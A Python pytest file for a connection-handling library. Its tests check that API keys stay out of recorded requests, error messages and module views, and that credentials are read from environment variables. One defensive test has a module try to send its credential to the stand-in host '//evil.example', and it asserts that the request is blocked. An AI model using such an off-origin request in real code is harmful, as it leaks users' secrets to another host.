"""How a host comes by connections, and what of them is seen."""

import json

import pytest

from jackfield import (
    Context,
    CredentialsError,
    Effect,
    Host,
    NoConnectionError,
    UnsafeRequestError,
    module,
)
from jackfield.testing import Replay
from weather import CANARY, HERE, KEY, MODULES, Place, Weather, account, get_weather


def test_requests_pass_the_send_hook_without_a_credential(host: Host, replay: Replay) -> None:
    """A recorder never holds a key."""
    replay.reply({"temperature_c": 1})

    host.run(get_weather, HERE, connection=KEY)

    (request,) = replay.requests
    assert "X-Key" not in request.headers
    assert CANARY not in str(vars(request))


def test_it_reads_an_unnamed_connection_from_the_variables_that_the_form_names(replay: Replay) -> None:
    """Without a connection in the call, the environment is asked."""
    replay.reply({"temperature_c": 1})

    with Host(plugins=[replay], modules=MODULES, discover=False, environ={"WEATHER_API_KEY": CANARY}) as host:
        result = host.run("weather.get_weather", HERE)

    assert result.output.temperature_c == 1


def test_it_reads_a_named_connection_from_variables_of_its_own(replay: Replay) -> None:
    """A name stands in the variable, and nothing falls back to the unnamed connection."""
    replay.reply({"temperature_c": 1})
    environ = {
        "JACKFIELD_CONNECTION__MY_WEATHER__API_KEY": "k",
        "JACKFIELD_CONNECTION__OTHER__REGION": "eu",
        "WEATHER_API_KEY": "x",
    }

    with Host(plugins=[replay], modules=MODULES, discover=False, environ=environ) as host:
        host.run("weather.get_weather", HERE, connection="my-weather")
        with pytest.raises(NoConnectionError, match=r"\$\.api_key: is required"):
            host.run("weather.get_weather", HERE, connection="other")
        with pytest.raises(NoConnectionError, match="no connection 'third'") as missing:
            host.run("weather.get_weather", HERE, connection="third")

    assert "JACKFIELD_CONNECTION__THIRD__API_KEY" in missing.value.hint
    assert len(replay.requests) == 1


def test_without_credentials_it_says_which_variable_to_set(host: Host) -> None:
    """The error of a newcomer names the remedy."""
    with pytest.raises(NoConnectionError) as missing:
        host.run("weather.get_weather", HERE)

    assert "WEATHER_API_KEY" in missing.value.hint


def test_an_error_of_the_service_that_echoes_the_key_is_masked(host: Host, replay: Replay) -> None:
    """Services like to say which key they did not accept."""
    replay.reply({"error": {"message": f"Incorrect API key provided: {CANARY}."}}, status=401)

    with pytest.raises(CredentialsError) as refused:
        host.run(get_weather, HERE, connection=KEY)

    assert "***" in refused.value.message
    assert CANARY not in str(refused.value) + repr(refused.value) + str(refused.value.args)


def test_a_path_that_leaves_the_origin_is_refused(replay: Replay) -> None:
    """No module can send a credential anywhere else."""

    @module(label="Leave", connection=account, effect=Effect.READ)
    def leave(form: Place, context: Context) -> Weather:
        """Try to leave."""
        return context.client.get("//evil.example/weather", into=Weather)

    host = Host(plugins=[replay], modules={"weather.leave": leave}, discover=False)
    with host, pytest.raises(UnsafeRequestError):
        host.run("weather.leave", HERE, connection=KEY)
    assert replay.requests == []


def test_secrets_of_a_connection_are_not_in_its_view() -> None:
    """What a module may read tells that a key is set, not what it is."""
    seen = []

    @module(label="Look", connection=account, effect=Effect.READ)
    def look(form: Place, context: Context) -> Weather:
        """Look at the connection."""
        seen.append(context.connection)
        return Weather(temperature_c=0)

    with Host(modules={"weather.look": look}, discover=False) as host:
        host.run("weather.look", HERE, connection={**KEY, "region": "eu"})

    (view,) = seen
    assert view is not None
    assert (view.settings, view.secrets) == ({"region": "eu"}, {"api_key": True})
    assert CANARY not in json.dumps(repr(view))
